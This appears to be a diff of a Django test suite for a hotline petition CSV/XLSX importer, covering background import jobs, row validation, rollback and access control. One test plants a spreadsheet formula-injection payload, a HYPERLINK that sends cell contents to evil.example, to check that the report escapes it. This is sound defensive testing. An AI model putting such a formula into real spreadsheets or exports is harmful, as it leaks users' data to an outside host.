@@ -4,10 +4,11 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import datetime
+from datetime import datetime, timedelta
 from pathlib import Path
 
 import pytest
+import time_machine
 from django.core.exceptions import ImproperlyConfigured
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import CommandError, call_command
@@ -16,10 +17,21 @@ from django.utils import timezone, translation
 from openpyxl import Workbook
 from rest_framework.test import APIClient
 
-from appeals.hotline import clean_phone, hotline_import, parse_received_at
+from appeals.hotline import RowError, clean_phone, hotline_import, parse_received_at
 from appeals.hotline_api import MAX_UPLOAD_BYTES
-from appeals.models import Category, CategoryKind, Channel, EventType, Petition, Status, Tier, Urgency
+from appeals.models import (
+    Category,
+    CategoryKind,
+    Channel,
+    EventType,
+    HotlineImportJob,
+    Petition,
+    Status,
+    Tier,
+    Urgency,
+)
 from appeals.services import petition_route
+from appeals.services.hotline_jobs import hotline_job_run, hotline_jobs_enqueue_stale
 from governance.errors import DomainError
 from governance.settings import parse_hotline_columns
 
@@ -277,6 +289,24 @@ def test_it_parses_common_received_time_formats(value):
     assert timezone.localtime(parse_received_at(value)).replace(tzinfo=None) == datetime(2026, 11, 20, 9, 15)
 
 
+@pytest.mark.parametrize("value", ["0001-12-31 09:00", "1999-12-31 23:59", 1.0, "2999-01-01"])
+def test_it_refuses_received_times_outside_the_accepted_window(value):
+    with pytest.raises(RowError):
+        parse_received_at(value)
+
+
+def test_a_row_with_control_characters_is_refused_and_the_others_are_imported(taxonomy):
+    rows = sample_rows()
+    rows[1][4] = "标题\x01"
+    rows[2][6] = "地址\x07"
+
+    report = hotline_import(file=csv_bytes(rows))
+
+    assert [row.outcome for row in report.rows] == ["error", "error", "created"]
+    assert "诉求标题" in report.rows[0].messages[0] and "问题地址" in report.rows[1].messages[0]
+    assert Petition.objects.count() == 1
+
+
 # --- Settings ----------------------------------------------------------------------------------------
 
 
@@ -313,6 +343,31 @@ def test_the_command_imports_and_writes_the_report(taxonomy, district_centre, tm
     assert written[1]["messages"]
 
 
+def test_the_command_report_never_carries_a_formula(taxonomy, tmp_path):
+    rows = sample_rows()
+    rows[1][0] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    rows[1][5] = ""  # an error row, so its order number is echoed in the report
+    source = tmp_path / "orders.csv"
+    source.write_bytes(csv_bytes(rows))
+    report_path = tmp_path / "report.csv"
+
+    call_command("import_hotline", str(source), report=str(report_path), stdout=io.StringIO(), stderr=io.StringIO())
+
+    written = list(csv.DictReader(io.StringIO(report_path.read_text(encoding="utf-8-sig"))))
+    assert written[0]["order_no"] == "'" + rows[1][0]
+
+
+def test_the_command_stores_nothing_with_all_or_nothing_when_a_row_fails(taxonomy, tmp_path):
+    rows = sample_rows()
+    rows[2][5] = ""
+    source = tmp_path / "orders.csv"
+    source.write_bytes(csv_bytes(rows))
+
+    with pytest.raises(CommandError, match="nothing was stored"):
+        call_command("import_hotline", str(source), all_or_nothing=True, stdout=io.StringIO(), stderr=io.StringIO())
+    assert not Petition.objects.exists()
+
+
 def test_the_command_is_strict_only_when_asked(taxonomy, tmp_path):
     rows = sample_rows()
     rows[2][5] = ""
@@ -335,11 +390,20 @@ def test_the_command_fails_on_a_file_level_error(taxonomy, tmp_path):
     assert not Petition.objects.exists()
 
 
-# --- The API -----------------------------------------------------------------------------------------
+# --- The API: a background job -----------------------------------------------------------------------
 
 
 def post(client: APIClient, content: bytes, name: str = "orders.csv", **data):
     return client.post(URL, {"file": SimpleUploadedFile(name, content), **data}, format="multipart")
+
+
+def run_job(client: APIClient, response) -> dict:
+    """Run the queued job as the worker would, then read it through the API."""
+    assert response.status_code == 202, response.json()
+    hotline_job_run(job_id=response.json()["id"])
+    job = client.get(response["Location"])
+    assert job.status_code == 200, job.json()
+    return job.json()
 
 
 @pytest.fixture
@@ -348,25 +412,128 @@ def api():
 
 
 @pytest.mark.parametrize("persona", ["district_centre", "street_command", "administrator"])
-def test_the_api_imports_for_command_staff(taxonomy, api, persona, request):
+def test_the_api_queues_a_job_and_the_job_imports_for_command_staff(taxonomy, api, persona, request):
     api.force_authenticate(request.getfixturevalue(persona))
 
     response = post(api, SAMPLE.read_bytes())
 
-    assert response.status_code == 200, response.json()
-    assert response.json()["totals"] == {"rows": 3, "created": 3, "skipped": 0, "failed": 0}
-    assert response.json()["rows"][0]["tracking_no"]
+    assert response.status_code == 202
+    assert response.json()["status"] == "queued"
+    assert response["Location"] == response.json()["url"]
+    assert not Petition.objects.exists()  # nothing is imported inside the request
+    job = run_job(api, response)
+    assert job["status"] == "done" and job["error"] is None
+    assert job["report"]["totals"] == {"rows": 3, "created": 3, "skipped": 0, "failed": 0}
+    assert job["report"]["committed"] is True
+    assert job["report"]["rows"][0]["tracking_no"]
+    assert job["progress"]["rows_done"] == 3
+    assert Petition.objects.count() == 3
+
+
+def test_the_upload_enqueues_the_import_task_after_commit(
+    taxonomy, api, district_centre, monkeypatch, django_capture_on_commit_callbacks
+):
+    sent = []
+    monkeypatch.setattr("appeals.tasks.hotline_import_run.delay", lambda job_id: sent.append(job_id))
+    api.force_authenticate(district_centre)
+
+    with django_capture_on_commit_callbacks(execute=True):
+        response = post(api, SAMPLE.read_bytes())
+
+    assert sent == [response.json()["id"]]
 
 
 def test_a_reposted_file_is_all_skipped(taxonomy, api, district_centre):
     api.force_authenticate(district_centre)
-    post(api, SAMPLE.read_bytes())
+    run_job(api, post(api, SAMPLE.read_bytes()))
 
-    response = post(api, xlsx_bytes(sample_rows()), name="orders.xlsx")
+    job = run_job(api, post(api, xlsx_bytes(sample_rows()), name="orders.xlsx"))
 
-    assert response.status_code == 200
-    assert response.json()["totals"] == {"rows": 3, "created": 0, "skipped": 3, "failed": 0}
+    assert job["status"] == "done"
+    assert job["report"]["totals"] == {"rows": 3, "created": 0, "skipped": 3, "failed": 0}
     assert Petition.objects.count() == 3
+
+
+def test_a_file_with_one_bad_row_commits_nothing(taxonomy, api, district_centre):
+    rows = sample_rows()
+    rows.append(["HX-BAD", "0001-12-31 09:00", "", "13800138000", "", "公元一年的工单", "", "", "", "", ""])
+    api.force_authenticate(district_centre)
+
+    job = run_job(api, post(api, csv_bytes(rows)))
+
+    assert job["status"] == "failed" and job["error"]["code"] == "rows_failed"
+    assert job["report"]["committed"] is False
+    bad = [row for row in job["report"]["rows"] if row["outcome"] == "error"]
+    assert [row["order_no"] for row in bad] == ["HX-BAD"]
+    assert "2000-01-01" in bad[0]["messages"][0]
+    assert {row["outcome"] for row in job["report"]["rows"]} == {"error", "not_stored"}
+    assert not Petition.objects.exists()
+
+
+def test_a_nul_byte_after_4_kb_commits_nothing(taxonomy, api, district_centre):
+    rows = [sample_rows()[0]]
+    for number in range(60):
+        rows.append(
+            [f"HN{number:04d}", "2026-11-23 09:15", "张三", "13800138000", "", "路灯不亮" * 5, "", "", "", "", ""]
+        )
+    rows.append(["HN-NUL", "2026-11-23 09:15", "张三", "13800138000", "", "坏\x00字节", "", "", "", "", ""])
+    content = csv_bytes(rows)
+    assert content.index(b"\x00") > 4096
+    api.force_authenticate(district_centre)
+
+    job = run_job(api, post(api, content))
+
+    assert job["status"] == "failed"
+    bad = [row for row in job["report"]["rows"] if row["outcome"] == "error"]
+    assert [row["order_no"] for row in bad] == ["HN-NUL"]
+    assert "诉求内容" in bad[0]["messages"][0]
+    assert not Petition.objects.exists()
+
+
+def test_an_unexpected_error_in_the_middle_rolls_the_whole_file_back(taxonomy, api, district_centre, monkeypatch):
+    from appeals import hotline
+
+    real_submit = hotline.petition_submit
+    calls = []
+
+    def failing_submit(**kwargs):
+        calls.append(1)
+        if len(calls) == 3:
+            raise RuntimeError("worker lost its database")
+        return real_submit(**kwargs)
+
+    monkeypatch.setattr(hotline, "petition_submit", failing_submit)
+    api.force_authenticate(district_centre)
+
+    job = run_job(api, post(api, SAMPLE.read_bytes()))
+
+    assert job["status"] == "failed" and job["error"]["code"] == "import_failed"
+    assert not Petition.objects.exists()
+
+
+def test_a_job_runs_once(taxonomy, api, district_centre):
+    api.force_authenticate(district_centre)
+    response = post(api, SAMPLE.read_bytes())
+    run_job(api, response)
+
+    assert hotline_job_run(job_id=response.json()["id"]) is None
+    assert Petition.objects.count() == 3
+
+
+def test_the_sweeper_sends_again_a_job_the_broker_dropped(
+    taxonomy, api, district_centre, monkeypatch, django_capture_on_commit_callbacks
+):
+    sent = []
+    monkeypatch.setattr("appeals.tasks.hotline_import_run.delay", lambda job_id: sent.append(job_id))
+    # A job whose nudge the broker dropped.
+    job = HotlineImportJob.objects.create(
+        file_name="orders.csv", content=SAMPLE.read_bytes(), created_by=district_centre
+    )
+
+    assert hotline_jobs_enqueue_stale() == 0  # within the grace period
+    with time_machine.travel(timezone.now() + timedelta(minutes=2)), django_capture_on_commit_callbacks(execute=True):
+        assert hotline_jobs_enqueue_stale() == 1
+    assert sent == [job.pk]
 
 
 @pytest.mark.parametrize("persona", ["grid_worker_a", "community_secretary", "department_handler", "resident"])
@@ -377,7 +544,19 @@ def test_the_api_refuses_other_users(taxonomy, api, persona, request):
 
     assert response.status_code == 403
     assert response.json()["code"] == "forbidden" and set(response.json()) == {"message", "code", "extra"}
-    assert not Petition.objects.exists()
+    assert not HotlineImportJob.objects.exists()
+
+
+def test_a_job_is_seen_by_its_importer_and_the_district_only(
+    taxonomy, api, street_command, other_street_command, district_centre
+):
+    api.force_authenticate(street_command)
+    url = post(api, SAMPLE.read_bytes())["Location"]
+
+    api.force_authenticate(other_street_command)
+    assert api.get(url).status_code == 404
+    api.force_authenticate(district_centre)
+    assert api.get(url).status_code == 200
 
 
 def test_the_api_refuses_anonymous_callers(taxonomy, api):
@@ -385,18 +564,18 @@ def test_the_api_refuses_anonymous_callers(taxonomy, api):
 
     assert response.status_code in (401, 403)
     assert set(response.json()) == {"message", "code", "extra"}
-    assert not Petition.objects.exists()
+    assert not HotlineImportJob.objects.exists()
 
 
-def test_the_api_answers_400_on_file_level_errors(taxonomy, api, district_centre):
+def test_file_level_errors_fail_the_job_or_the_upload(taxonomy, api, district_centre):
     api.force_authenticate(district_centre)
 
-    missing = post(api, csv_bytes([["工单编号", "联系电话"], ["A1", "13800138000"]]))
+    missing = run_job(api, post(api, csv_bytes([["工单编号", "联系电话"], ["A1", "13800138000"]])))
     no_file = api.post(URL, {}, format="multipart")
     bad_format = post(api, SAMPLE.read_bytes(), format="pdf")
 
-    assert missing.status_code == 400 and missing.json()["code"] == "missing_columns"
-    assert missing.json()["extra"]["missing"] == ["诉求内容"]
+    assert missing["status"] == "failed" and missing["error"]["code"] == "missing_columns"
+    assert missing["report"]["extra"]["missing"] == ["诉求内容"]
     assert no_file.status_code == 400 and no_file.json()["code"] == "file_required"
     assert bad_format.status_code == 400 and bad_format.json()["code"] == "bad_format"
     assert not Petition.objects.exists()
